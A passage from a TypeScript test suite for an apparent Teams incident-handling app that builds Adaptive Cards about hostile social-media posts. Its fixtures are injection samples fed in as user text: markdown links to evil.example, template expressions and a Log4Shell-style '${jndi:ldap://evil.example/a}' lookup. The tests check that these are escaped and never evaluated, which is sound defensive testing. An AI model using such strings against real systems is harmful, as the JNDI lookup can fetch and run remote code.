  ];

  it('five collapsed sections, each with its own inputs and verbs', () => {
    const card = incidentCard(routed(), options());
    expect(showCards(card).map((a) => plainTitle(a.title))).toEqual(SECTIONS.map(([title]) => title));
    for (const [title, ids, verbs] of SECTIONS) {
      const sub = showCard(card, title)!.card as Json;
      expect(inputs(sub).map((i) => i.id)).toEqual(ids);
      expect(verbsIn(sub)).toEqual(verbs);
    }
    // Nothing to decide with sits outside the sections.
    expect(inputs({ body: body(card).filter((e) => e.id !== 'decisions') })).toEqual([]);
    // The decision buttons come straight after the headline.
    expect(body(card).findIndex((e) => e.id === 'decisions')).toBeLessThan(body(card).findIndex((e) => texts(e)[0]?.startsWith('Recommended first') || texts(e)[0] === 'What the policy recommends'));
    expect(texts(card).some((t) => t.startsWith('Your decision'))).toBe(true);
  });

  it('action titles are plain', () => {
    const card = incidentCard(routed(), options());
    expect(executes(card).map((a) => a.title)).toEqual(['Refresh', 'Confirm no response', 'Check reply', 'Approve reply', 'Record actions', 'Assign', 'Send question', 'Evidence pack']);
  });

  it('no response: a required reason', () => {
    const reason = inputById(incidentCard(routed(), options()), INCIDENT_INPUTS.reason)!;
    expect(reason).toMatchObject({ type: 'Input.Text', isMultiline: true, maxLength: 500 });
    expect(reason).not.toHaveProperty('isRequired');
    expect(String(reason.label)).toMatch(/\(required\)$/);
  });

  it('public reply: the box holds the reply text exactly, with the toggle to ask the reporter to post it', () => {
    const card = incidentCard(routed(), options({ replyText: HOSTILE_REPLY }));
    expect(inputById(card, INCIDENT_INPUTS.replyText)).toMatchObject({ type: 'Input.Text', isMultiline: true, maxLength: 1000, value: HOSTILE_REPLY });
    expect(inputById(card, INCIDENT_INPUTS.replyText)).not.toHaveProperty('isRequired');
    expect(inputById(card, INCIDENT_INPUTS.reporterPostsReply)).toMatchObject({
      type: 'Input.Toggle',
      title: 'Ask the reporter to post this reply',
      valueOn: 'true',
      valueOff: 'false',
    });
  });

  it('choose actions: every recommended action, in order, ticked freely', () => {
    const incident = routed();
    const choiceSet = inputById(incidentCard(incident, options()), INCIDENT_INPUTS.actions)!;
    expect(choiceSet).toMatchObject({ type: 'Input.ChoiceSet', isMultiSelect: true, style: 'expanded' });
    expect(choiceSet).not.toHaveProperty('isRequired');
    expect(choiceSet.choices).toEqual(graded(incident).actions.map((a) => ({ title: a.title, value: a.id })));
  });

  it('assign: the deputies and managers given, by name; the current assignee chosen', () => {
    const choiceSet = inputById(incidentCard(routed(FACTS, 0, { assignedTo: DEPUTY }), options()), INCIDENT_INPUTS.assignee)!;
    expect(choiceSet.choices).toEqual([
      { title: 'Pat Manager', value: 'aad-manager' },
      { title: 'Dee Deputy', value: 'aad-deputy' },
    ]);
    expect(choiceSet.value).toBe('aad-deputy');
  });

  it.each([
    ['nobody', []],
    ['only people not yet known by name', [{ aadObjectId: 'aad-x', name: '' }, { aadObjectId: 'aad-y', name: '  ' }]],
  ])('with %s to assign to, Assign says how to add a deputy, offers no "Unnamed colleague" and no button', (_, assignees) => {
    const card = incidentCard(routed(), options({ assignees }));
    const sub = showCard(card, 'Assign')!.card as Json;
    expect(texts(sub)).toEqual(['No deputy or other manager is set up by name yet. In the practice channel, type "@Postwatch add deputy @Name" to add one.']);
    expect(inputs(sub)).toEqual([]);
    expect(verbsIn(card)).not.toContain(INCIDENT_VERBS.assign);
    expect(all(card)).not.toContain('Unnamed');
  });

  it('assign lists only the people known by name', () => {
    const card = incidentCard(routed(), options({ assignees: [MANAGER, { aadObjectId: 'aad-x', name: '' }] }));
    expect(inputById(card, INCIDENT_INPUTS.assignee)!.choices).toEqual([{ title: 'Pat Manager', value: 'aad-manager' }]);
  });

  it('ask the reporter: a required question', () => {
    const question = inputById(incidentCard(routed(), options()), INCIDENT_INPUTS.question)!;
    expect(question).toMatchObject({ type: 'Input.Text', isMultiline: true, maxLength: 500 });
    expect(question).not.toHaveProperty('isRequired');
  });

  describe('an error on an input: shown beneath it, with its section open in the body', () => {
    const sectionOf: Record<string, string> = {
      reason: 'decide-noResponse',
      replyText: 'decide-reply',
      reporterPostsReply: 'decide-reply',
      actions: 'decide-actions',
      assignee: 'decide-assign',
      question: 'decide-ask',
    };
    const titleOf: Record<string, string> = {
      'decide-noResponse': 'No response',
      'decide-reply': 'Public reply',
      'decide-actions': 'Choose actions',
      'decide-assign': 'Assign',
      'decide-ask': 'Ask the reporter',
    };

    it.each(Object.keys(sectionOf))('%s', (id) => {
      const message = `Problem with ${id}: [fix](http://evil.example)`;
      const card = incidentCard(routed(), options({ errors: { [id]: message } }));
      expect(problems(card)).toEqual([]);
      const open = section(card, sectionOf[id]!);
      expect(open).toBeDefined();
      expect(plainTitle(texts(open!)[0])).toBe(titleOf[sectionOf[id]!]);
      expect(showCard(card, titleOf[sectionOf[id]!]!)).toBeUndefined();
      expect(showCards(card)).toHaveLength(4);
      const input = inputById(card, id)!;
      const { list, index } = siblings(card, input);
      expect(list).toBe(open!.items);
      expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), weight: 'Bolder', wrap: true });
      expect(list[index + 1]!).not.toHaveProperty('color');
      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answer below.']);
      // The section keeps its own buttons.
      expect(verbsIn(open!).length).toBeGreaterThan(0);
    });

    it('errors on every input: every section open, no collapsed ones left', () => {
      const card = incidentCard(routed(), options({ errors: ALL_ERRORS }));
      expect(problems(card, { userText: USER_TEXT })).toEqual([]);
      expect(showCards(card)).toEqual([]);
      for (const id of Object.values(sectionOf)) expect(section(card, id)).toBeDefined();
      // "answer" is not an input of the incident card, and there is no task to mark done or
      // incident to close or reopen: those are told at the top.
      const elsewhere = [INCIDENT_INPUTS.answer, INCIDENT_INPUTS.taskOutcomePrefix, INCIDENT_INPUTS.closeOutcome, INCIDENT_INPUTS.lessonsLearnt, INCIDENT_INPUTS.reopenReason];
      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answers below.', ...elsewhere.map((id) => plainText(ALL_ERRORS[id]!))]);
    });

    it('an error for an input the card does not show goes to the top, and nothing opens', () => {
      const card = incidentCard(routed(), options({ assignees: [], errors: { assignee: 'Choose the deputy.' } }));
      expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Choose the deputy.']);
      // Assign stays, closed, saying how to add a deputy.
      expect(showCards(card)).toHaveLength(5);
    });

    it('no errors: no summary, nothing open', () => {
      const card = incidentCard(routed(), options({ errors: {} }));
      expect(all(card)).not.toContain('Please fix');
      expect(showCards(card)).toHaveLength(5);
      expect(textBlocks(card).filter((t) => t.color === 'Attention')).toEqual([]);
    });
  });

  describe('reply-guard findings', () => {
    const reply = 'Thank you. Our patient [Dr Patel](http://evil.example) can call 01709 123456. YOU ARE WRONG.';
    const findings: Finding[] = [
      { rule: 'argumentative', severity: 'advisory', message: '"YOU ARE WRONG" reads as shouting.', start: reply.indexOf('YOU'), end: reply.indexOf('YOU') + 13 },
      { rule: 'confirms-patient-relationship', severity: 'blocking', message: '"Our patient" confirms that the person is a patient.', start: reply.indexOf('Our'), end: reply.indexOf('Our') + 11 },
      { rule: 'staff-name', severity: 'blocking', message: '"[Dr Patel](http://evil.example)" names a member of staff.', start: reply.indexOf('[Dr'), end: reply.indexOf('[Dr') + 31 },
    ];

    it('blocking: the reply section opens, findings right beneath the box, blocking first in attention colour, quoted and escaped', () => {
      const card = incidentCard(routed(), options({ replyText: reply, replyFindings: findings }));
      expect(problems(card, { userText: [reply] })).toEqual([]);
      const open = section(card, 'decide-reply')!;
      expect(open).toBeDefined();
      expect(showCard(card, 'Public reply')).toBeUndefined();
      const items = open.items as Json[];
      const box = items.indexOf(inputById(card, INCIDENT_INPUTS.replyText)!);
      const toggle = items.indexOf(inputById(card, INCIDENT_INPUTS.reporterPostsReply)!);
      const between = items.slice(box + 1, toggle);
      expect(texts({ body: between })).toEqual([
        'The reply check found 2 problems to fix before it can be approved.',
        'Must change: "Our patient"',
        plainText('"Our patient" confirms that the person is a patient.'),
        'Must change: "\\[Dr Patel\\](http://evil.example)"',
        plainText('"[Dr Patel](http://evil.example)" names a member of staff.'),
        'Check: "YOU ARE WRONG"',
        plainText('"YOU ARE WRONG" reads as shouting.'),
      ]);
      const colours = textBlocks({ body: between }).map((t) => t.color);
      expect(colours).toEqual(['Default', 'Default', 'Default', 'Default', 'Default', 'Default', 'Default']);
      expect(liveMarkdown(all(card))).toEqual([]);
    });

    it('advisory only: the section stays collapsed, with the findings inside it as warnings', () => {
      const advisory = findings.filter((f) => f.severity === 'advisory');
      const card = incidentCard(routed(), options({ replyText: reply, replyFindings: advisory }));
      expect(section(card, 'decide-reply')).toBeUndefined();
      const sub = showCard(card, 'Public reply')!.card as Json;
      expect(textBlocks(sub).find((t) => t.text === 'Check: "YOU ARE WRONG"')).toMatchObject({ color: 'Default' });
      expect(texts(sub)).toContain('The reply check found 1 thing to consider.');
    });

    it('free text: each sentence listed (escaped), then the attestation tick whose value is the key of exactly those sentences', () => {
      const free = ['Our phone lines open at 8am.', 'Visit [our site](http://evil.example) for **more**.'];
      const card = incidentCard(routed(), options({ replyText: `Thank you for your feedback. ${free.join(' ')}`, replyFindings: [], replyFreeText: free }));
      expect(problems(card, { userText: free })).toEqual([]);
      const sub = showCard(card, 'Public reply')!.card as Json;
      expect(texts(sub)).toContain('2 sentences not from the approved list (free text). Read each one before approving:');
      expect(texts(sub)).toContain(plainText(`1. ${free[0]}`));
      expect(texts(sub)).toContain(plainText(`2. ${free[1]}`));
      expect(liveMarkdown(all(card))).toEqual([]);
      const tick = inputById(card, INCIDENT_INPUTS.attestFreeText)!;
      expect(tick).toMatchObject({ type: 'Input.Toggle', title: ATTESTATION_STATEMENT, valueOn: attestationKey(free), valueOff: '', value: '' });
      // Approved sentences only: no tick to give, and the card says why.
      const approvedOnly = incidentCard(routed(), options({ replyText: 'Thank you for your feedback.', replyFindings: [], replyFreeText: [] }));
      expect(inputById(approvedOnly, INCIDENT_INPUTS.attestFreeText)).toBeUndefined();
      expect(texts(showCard(approvedOnly, 'Public reply')!.card as Json)).toContain("Every sentence is from the practice's approved list.");
    });

    it('no findings: says so', () => {
      const sub = showCard(incidentCard(routed(), options()), 'Public reply')!.card as Json;
      expect(textBlocks(sub).find((t) => t.text === 'The reply check found nothing to change.')).toMatchObject({ color: 'Default' });
    });

    it('many findings: the first are listed, blocking first, the rest counted', () => {
      const card = incidentCard(routed(), options({ replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY) }));
      const quotes = texts(card).filter((t) => t.startsWith('Must change:') || t.startsWith('Check:'));
      expect(quotes).toHaveLength(8);
      expect(quotes.slice(0, 3).every((q) => q.startsWith('Must change:'))).toBe(true);
      expect(texts(card)).toContain('And 2 more findings: press Check reply after changing the text.');
    });
  });
});

// ---- read-only ------------------------------------------------------------------------------------

describe('incident card read-only view', () => {
  it('everything but the decision: the post is shown, no inputs, no decision actions', () => {
    const decider = incidentCard(routed(), options());
    const readonly = incidentCard(routed(), options({ view: 'readonly' }));
    expect(inputs(readonly)).toEqual([]);
    expect(executes(readonly).map((a) => a.verb)).toEqual([INCIDENT_VERBS.refresh]);
    expect(readonly.actions ?? []).toEqual([]);
    expect(body(readonly).find((e) => e.id === 'decisions')).toBeUndefined();
    expect(texts(readonly)).toContain(plainText(FACTS.what.postText));
    expect(texts(readonly)).not.toContain('Your decision');
    expect(texts(readonly)).not.toContain('Evidence pack');
    // The same information as the decider sees, minus the decision area and the evidence pack.
    const deciderOnly = ['Your decision', 'Evidence pack', 'Open one of the options', 'One file with the incident'];
    const shared = (c: Json) => texts({ body: body(c).filter((e) => e.id !== 'decisions') }).filter((t) => !deciderOnly.some((d) => t.startsWith(d)));
    expect(shared(readonly)).toEqual(shared(decider));
  });

  it('the reply draft and its findings are not shown', () => {
    const card = incidentCard(routed(), options({ view: 'readonly', replyText: 'Secret draft', replyFindings: hostileFindings('Secret draft') }));
    expect(JSON.stringify(card)).not.toContain('Secret draft');
    expect(all(card)).not.toContain('Must change');
  });

  it('errors meant for decision inputs are not placed on it as fields', () => {
    const card = incidentCard(routed(), options({ view: 'readonly', errors: { reason: 'Say why.' } }));
    expect(inputs(card)).toEqual([]);
    expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Say why.']);
  });
});

// ---- refresh --------------------------------------------------------------------------------------

describe('incident card refresh', () => {
  it.each(['decider', 'readonly'] as const)('%s view: refresh to the given Teams user ids', (view) => {
    const card = incidentCard(routed(), options({ view, refreshUserIds: ['29:abc'] }));
    expect((card.refresh as Json).userIds).toEqual(['29:abc']);
    expect(((card.refresh as Json).action as Json).verb).toBe(INCIDENT_VERBS.refresh);
  });

  it('[] is kept as [] (no automatic refresh), not dropped', () => {
    const card = incidentCard(routed(), options({ refreshUserIds: [] }));
    expect(card.refresh).toHaveProperty('userIds', []);
  });

  it('duplicates are removed and the list is cut to the 60 Teams allows', () => {
    const ids = Array.from({ length: 70 }, (_, i) => `29:${i}`);
    const card = incidentCard(routed(), options({ refreshUserIds: ['29:0', ...ids] }));
    expect((card.refresh as Json).userIds).toEqual(ids.slice(0, 60));
    expect(problems(card)).toEqual([]);
  });
});

// ---- hostile text ---------------------------------------------------------------------------------

describe('incident card: user text is data', () => {
  /** Hostile text in every field, small enough that nothing is shortened, and the same incident with plain text. */
  function pair(view: IncidentCardOptions['view']): [Json, Json] {
    const make = (t: (s: string) => string) => {
      const facts: ReportFacts = {
        where: { ...FACTS.where, postUrl: t(`https://evil.example/[x](http://evil.example)`), authorName: t(HOSTILE_SHORT) },
        what: { ...FACTS.what, postText: t(HOSTILE), namedColleagues: t(HOSTILE_SHORT) },
        risk: { atRisk: true, riskDetails: t(HOSTILE) },
        evidence: { screenshots: [0, 1, 2].map((i) => ({ ...SCREENSHOT, fileName: t(`[shot ${i}](http://evil.example) \${f} <b>.png`) })) },
      };
      const questions: QuestionToReporter[] = [
        { askedBy: { ...MANAGER, name: t(HOSTILE_SHORT) }, askedAt: '2026-11-03T15:00:00Z', question: t(HOSTILE_SHORT), answer: t(HOSTILE), answeredAt: '2026-11-03T15:30:00Z' },
        { askedBy: MANAGER, askedAt: '2026-11-03T16:00:00Z', question: t(HOSTILE) },
      ];
      const reply = t(HOSTILE_REPLY.slice(0, 200));
      const incident = { ...routed(facts, 2, { questions, assignedTo: { ...DEPUTY, name: t(HOSTILE_SHORT) }, version: 7 }), reporter: { aadObjectId: 'aad-reporter', name: t(HOSTILE_SHORT) } };
      return incidentCard(
        incident,
        options({
          view,
          practiceName: t('[Evil](http://evil.example) ${$root.reference}'),
          assignees: [{ aadObjectId: 'aad-deputy', name: t(HOSTILE_SHORT) }, MANAGER],
          replyText: reply,
          replyFindings: [
            { rule: 'staff-name', severity: 'blocking', message: t(`"[Dr Patel](http://evil.example)" names a member of staff.`), start: reply.indexOf('Our'), end: reply.indexOf('Our') + 43 },
            { rule: 'argumentative', severity: 'advisory', message: t(HOSTILE_SHORT), start: reply.indexOf('$'), end: reply.indexOf('$') + 10 },
          ],
          errors: Object.fromEntries(Object.keys(ALL_ERRORS).map((k) => [k, t(ALL_ERRORS[k]!)])),
          notice: { tone: 'attention', text: t(HOSTILE_SHORT) },
        }),
      );
    };
    return [make((x) => x), make((x) => x.replace(/[^\n]/g, 'a'))];
  }

  it.each(['decider', 'readonly'] as const)('%s: no element or action injected, nothing evaluated, no live markdown', (view) => {
    const [hostile, benign] = pair(view);
    expect(problems(hostile, { userText: USER_TEXT })).toEqual([]);
    expect(all(hostile)).not.toContain('Showing the first'); // nothing shortened: the whole text is compared
    expect(shape(hostile)).toEqual(shape(benign));
    const shown = all(hostile);
    expect(liveMarkdown(shown)).toEqual([]);
    expect(shown).toContain('${jndi:ldap://evil.example/a}');
    expect(shown).toContain('${$root.x} ${$root.reference}');
    expect(shown).not.toContain(`${PRACTICE} PW-2026-0042`);
    expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
    expect(texts(hostile)).toContain(plainText('[Evil](http://evil.example) ${$root.reference}'));
    expect(texts(hostile)).toContain(plainText(HOSTILE));
  });

  it.each(['decider', 'readonly'] as const)('%s, worst case: no live markdown, nothing evaluated', (view) => {
    const card = incidentCard(hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions(view));
    expect(problems(card, { userText: USER_TEXT })).toEqual([]);
    expect(liveMarkdown(all(card))).toEqual([]);
    expect(all(card)).not.toContain(`${PRACTICE} PW-2026-0042`);
  });

  it('the author, named colleagues, risk details, screenshot names and questions are escaped', () => {
    const card = incidentCard(hostileIncident({ questions: 1 }), hostileOptions('readonly'));
    expect(fact(card, 'Author')).toBe(plainText(HOSTILE_SHORT));
    expect(texts(card).some((t) => t.startsWith(plainText('[shot 0](http://evil.example) ${f} <b>.png — ')))).toBe(true);
    // Shortened to fit (the worst case), but escaped from its first character.
    expect(texts(card).some((t) => t.startsWith(plainText((HOSTILE + ' ').slice(0, 100))))).toBe(true);
    expect(texts(card)).toContain(`Asked by ${plainText(HOSTILE_SHORT)}, 3 Nov 2026, 15:00`);
  });
});

// ---- the reporter's cards -------------------------------------------------------------------------

describe('reporter question card', () => {
  const QUESTION: QuestionToReporter = {
    askedBy: MANAGER,
    askedAt: '2026-11-03T15:00:00Z',
    question: 'Did you see [who](http://evil.example) posted it? ${$root.reference}',
  };

  it('the question escaped, a required answer box and Send answer with the incident ids', () => {
    const incident = routed(FACTS, 0, { version: 4 });
    const card = reporterQuestionCard(incident, QUESTION, { practiceName: PRACTICE });
    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
    expect(texts(card)).toEqual(expect.arrayContaining(['A question about your report', 'Your report PW-2026-0042', PRACTICE, 'Pat Manager asked, 3 Nov 2026, 15:00:', plainText(QUESTION.question)]));
    expect(inputs(card)).toEqual([
      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.answer, isMultiline: true, maxLength: 2000, label: 'Your answer (required)' }),
    ]);
    expect(executes(card).map((a) => [a.title, a.verb, a.data])).toEqual([
      ['Send answer', INCIDENT_VERBS.answer, { practiceId: 'wickersley', reference: 'PW-2026-0042', version: 4 }],
    ]);
  });

  it('an error beneath the answer box, escaped', () => {
    const card = reporterQuestionCard(routed(), QUESTION, { practiceName: PRACTICE, error: 'Write your answer. [x](http://evil.example)' });
    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
    const { list, index } = siblings(card, inputById(card, INCIDENT_INPUTS.answer)!);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: 'Write your answer. \\[x\\](http://evil.example)', weight: 'Bolder' });
  });

  it('once answered: the answer, thanks, and nothing to send', () => {
    const card = reporterQuestionCard(routed(), { ...QUESTION, answer: '**Jay**', answeredAt: '2026-11-03T15:30:00Z' }, { practiceName: PRACTICE, error: 'ignored' });
    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
    expect(inputs(card)).toEqual([]);
    expect(executes(card)).toEqual([]);
    expect(texts(card)).toEqual(expect.arrayContaining(['Your answer, 3 Nov 2026, 15:30:', '\\*\\*Jay\\*\\*', 'Thank you: your answer was added to the report.']));
    expect(texts(card)).not.toContain('ignored');
  });
});

describe('reporter update card', () => {
  it('reference, what was decided, thanks; no reply box when there is nothing to post', () => {
    const card = reporterUpdateCard(routed(), { practiceName: PRACTICE, summary: 'The practice manager decided: **Report** [x](http://evil.example).' });
    expect(problems(card)).toEqual([]);
    expect(texts(card)).toEqual(
      expect.arrayContaining(['Update on your report', 'Your report PW-2026-0042', PRACTICE, 'The practice manager decided: \\*\\*Report\\*\\* \\[x\\](http://evil.example).']),
    );
    expect(texts(card).join(' ')).toMatch(/Thank you for reporting this/);
    expect(inputs(card)).toEqual([]);
  });

  it('the approved reply, exactly, ready to copy', () => {
    const reply = 'Thank you for letting us know. ${$root.reference} [x](http://evil.example)';
    const card = reporterUpdateCard(routed(), { practiceName: PRACTICE, summary: 'The practice manager approved a brief public reply.', replyToPost: reply });
    expect(problems(card, { userText: [reply] })).toEqual([]);
    expect(texts(card)).toContain('Please post this reply');
    expect(inputs(card)).toEqual([expect.objectContaining({ type: 'Input.Text', value: reply, isMultiline: true })]);
    expect(executes(card).map((a) => a.associatedInputs)).toEqual(['none']);
  });
});

// ---- follow-through: tasks, closing, reopening, the evidence pack ------------------------------------

const OWNER = { aadObjectId: 'aad-owner', name: 'Mary Owner' };
const REPORTER = { aadObjectId: 'aad-reporter', name: 'Sam Reception' };
/** 17:00 on the day: t1 (due 16:00) is overdue, t2 (due 21:00) is not. */
const LATER = new Date('2026-11-03T17:00:00Z');

const TASKS: Task[] = [
  { id: 't1', actionId: 'report-to-platform', title: 'Report the post to the platform', owner: OWNER, dueAt: '2026-11-03T16:00:00Z', status: 'open' },
  { id: 't2', actionId: 'public-reply', title: 'Post the approved reply in the same comment stream', owner: REPORTER, dueAt: '2026-11-03T21:00:00Z', status: 'open' },
  {
    id: 't3',
    actionId: 'support-colleague',
    title: 'Support the colleague who was targeted',
    owner: MANAGER,
    dueAt: '2026-11-03T18:00:00Z',
    status: 'done',
    outcome: 'Spoke to **Jo** [link](http://evil.example) ${$root.reference}',
    doneBy: MANAGER,
    doneAt: '2026-11-03T16:30:00Z',
  },
];

/** Decided (actions), with tasks, in the given status. */
function followedUp(opts: { tasks?: Task[]; status?: IncidentStatus; closure?: Closure; reopenings?: Reopening[]; severity?: Grading['severity'] } = {}): Incident {
  const base = decided(DECISIONS.actions!);
  const handling = base.handling!;
  return {
    ...base,
    status: opts.status ?? 'in-progress',
    handling: {
      ...handling,
      version: 5,
      tasks: opts.tasks ?? TASKS,
      ...(opts.closure ? { closure: opts.closure } : {}),
      ...(opts.reopenings ? { reopenings: opts.reopenings } : {}),
      ...(opts.severity ? { grading: { ...handling.grading!, severity: opts.severity } } : {}),
    },
  };
}

const CLOSURE: Closure = {
  outcome: 'Post removed by [Facebook](http://evil.example) after report FB-123. ${$root.x}',
  lessonsLearnt: '**Reception** to log the time a post is seen.',
  closedBy: MANAGER,
  closedAt: '2026-11-05T09:30:00Z',
};

/** What people typed into the follow-through samples (their `${` is data). */
const FOLLOW_USER_TEXT = [...USER_TEXT, TASKS[2]!.outcome!, CLOSURE.outcome, CLOSURE.lessonsLearnt!];

const closed = (extra: { closure?: Closure; reopenings?: Reopening[] } = {}) =>
  followedUp({ status: 'closed', tasks: TASKS.map((t) => ({ ...t, status: 'done' as const, outcome: t.outcome ?? 'Done.', doneBy: t.doneBy ?? OWNER, doneAt: t.doneAt ?? '2026-11-04T10:00:00Z' })), closure: CLOSURE, ...extra });

const taskContainer = (card: Json, title: string) =>
  elements(card).find((e) => e.type === 'Container' && Array.isArray(e.items) && (e.items as Json[])[0]?.text === plainText(title));
const taskDoneActions = (card: Json) => executes(card).filter((a) => a.verb === INCIDENT_VERBS.taskDone);
const executeNamed = (card: Json, verb: string) => executes(card).filter((a) => a.verb === verb);

/** Every Execute carries the ids (and taskDone its task id), with this version. */
function expectFollowUpData(card: Json, incident: Incident): void {
  const ids = { practiceId: incident.practiceId, reference: incident.reference, version: incident.handling?.version ?? 0 };
  for (const a of executes(card)) {
    if (a.verb === INCIDENT_VERBS.taskDone) {
      expect(Object.keys(a.data as Json).sort()).toEqual([...TASK_DATA_KEYS].sort());
      expect(a.data).toEqual({ ...ids, taskId: expect.stringMatching(/^t\d+$/) });
    } else expect(a.data).toEqual(ids);
  }
}

describe('incident card: follow-up tasks', () => {
  it.each(['decider', 'readonly'] as const)('%s view: each task with its owner, due time, status; overdue in attention colour', (view) => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ view, now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(texts(card)).toContain('Follow-up tasks');
    expect(texts(card)).toContain('3 follow-up tasks: 1 done, 2 open, 1 overdue.');
    expect(texts(taskContainer(card, TASKS[0]!.title)!)).toEqual(
      expect.arrayContaining(['Report the post to the platform', 'Open · Owner: Mary Owner', 'OVERDUE by 1 h (due 3 Nov 2026, 16:00)']),
    );
    expect(textBlocks(card).find((t) => t.text === 'OVERDUE by 1 h (due 3 Nov 2026, 16:00)')).toBeDefined();
    expect(textBlocks(card).find((t) => t.text === 'Due in 4 h, by 3 Nov 2026, 21:00')).not.toHaveProperty('color');
    expect(texts(taskContainer(card, TASKS[2]!.title)!)).toEqual([
      'Support the colleague who was targeted',
      'Done · Owner: Pat Manager',
      'Done by Pat Manager on 3 Nov 2026, 16:30 (due 3 Nov 2026, 18:00)',
      plainText(`What happened: ${TASKS[2]!.outcome}`),
    ]);
    // A done task is never overdue, even when its due time has passed.
    const afterAll = incidentCard(incident, options({ view, now: new Date('2026-11-04T12:00:00Z') }));
    expect(texts(taskContainer(afterAll, TASKS[2]!.title)!).join('\n')).not.toMatch(/Overdue/);
    expect(texts(afterAll)).toContain('3 follow-up tasks: 1 done, 2 open, 2 overdue.');
    expect(liveMarkdown(all(card))).toEqual([]);
  });

  it('a task due within the hour is in warning colour; the time is UK time (BST in summer)', () => {
    const summer = followedUp({ tasks: [{ ...TASKS[0]!, dueAt: '2026-07-01T12:30:00Z' }] });
    const card = incidentCard(summer, options({ now: new Date('2026-07-01T12:00:00Z') }));
    expect(textBlocks(card).find((t) => String(t.text).startsWith('Due in'))).toMatchObject({ text: 'Due in 30 min, by 1 Jul 2026, 13:30' });
  });

  it('decider view: every open task can be marked done, in its own collapsed section; done tasks cannot', () => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    for (const task of TASKS.slice(0, 2)) {
      const container = taskContainer(card, task.title)!;
      const set = (container.items as Json[]).find((e) => e.type === 'ActionSet')!;
      const showCard = (set.actions as Json[])[0]!;
      expect(showCard).toMatchObject({ type: 'Action.ShowCard', title: 'Mark done', id: `task-${task.id}` });
      const sub = showCard.card as Json;
      expect(inputs(sub)).toEqual([
        expect.objectContaining({ type: 'Input.Text', id: `outcome_${task.id}`, label: 'What happened? (required)', isMultiline: true, maxLength: 1000 }),
      ]);
      expect(String(inputById(sub, `outcome_${task.id}`)!.placeholder)).toMatch(/platform report reference, police reference, MDU advice, the author's reply/i);
      expect(executes(sub).map((a) => [a.title, a.verb, a.data])).toEqual([
        ['Mark done', INCIDENT_VERBS.taskDone, { practiceId: 'wickersley', reference: 'PW-2026-0042', version: 5, taskId: task.id }],
      ]);
    }
    expect(actions(taskContainer(card, TASKS[2]!.title)!)).toEqual([]);
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1', 'outcome_t2']);
    // Tasks are not decision sections: nothing is added to the card's own actions.
    expect(showCards(card)).toEqual([]);
  });

  it.each([
    ['the owner', 'aad-owner'],
    ['the owner, with the id in other case', 'AAD-OWNER'],
  ])('read-only view, seen by %s: their task can be marked done, nobody else\'s', (_, viewer) => {
    const incident = followedUp();
    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: viewer, now: LATER }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expectFollowUpData(card, incident);
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t1']);
    expect(taskDoneActions(card).map((a) => (a.data as Json).taskId)).toEqual(['t1']);
    expect(actions(taskContainer(card, TASKS[1]!.title)!)).toEqual([]);
    // Still no decision, close or reopen controls.
    expect(showCards(card)).toEqual([]);
    expect(executes(card).map((a) => a.verb).sort()).toEqual([INCIDENT_VERBS.refresh, INCIDENT_VERBS.taskDone].sort());
  });

  it('read-only view, seen by the reporter asked to post the reply: that task only', () => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: REPORTER.aadObjectId, now: LATER }));
    expect(inputs(card).map((i) => i.id)).toEqual(['outcome_t2']);
  });

  it.each([
    ['someone who owns no task', 'aad-stranger'],
    ['nobody in particular', undefined],
    ['an empty id', ''],
  ])('read-only view, seen by %s: tasks shown, nothing to act on', (_, viewer) => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', now: LATER, ...(viewer === undefined ? {} : { viewerAadObjectId: viewer }) }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    expect(texts(card)).toContain('Report the post to the platform');
    expect(inputs(card)).toEqual([]);
    expect(taskDoneActions(card)).toEqual([]);
    expect(executes(card).map((a) => a.verb)).toEqual([INCIDENT_VERBS.refresh]);
  });

  it('an owner whose task is done has nothing to act on', () => {
    const card = incidentCard(followedUp(), options({ view: 'readonly', viewerAadObjectId: MANAGER.aadObjectId, now: LATER }));
    expect(inputs(card)).toEqual([]);
  });

  it('an error on a task\'s outcome: that task\'s form is open in place, the error right beneath its box', () => {
    const message = 'Say what happened [x](http://evil.example)';
    const incident = followedUp();
    const card = incidentCard(incident, options({ view: 'readonly', viewerAadObjectId: OWNER.aadObjectId, now: LATER, errors: { outcome_t1: message } }));
    expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
    const container = taskContainer(card, TASKS[0]!.title)!;
    expect(elements(container).filter((e) => e.type === 'Action.ShowCard')).toEqual([]);
    const input = inputById(card, 'outcome_t1')!;
    const { list, index } = siblings(card, input);
    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), weight: 'Bolder' });
    expect(list[index + 2]).toMatchObject({ type: 'ActionSet' });
    expect(elements(container)).toContain(input);
    expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answer below.']);
    expectFollowUpData(card, incident);
  });

  it('an error on a task the viewer cannot act on goes to the top; the other forms stay collapsed', () => {
    const card = incidentCard(followedUp(), options({ now: LATER, errors: { outcome_t3: 'Already done by Pat Manager.' } }));
    expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Already done by Pat Manager.']);
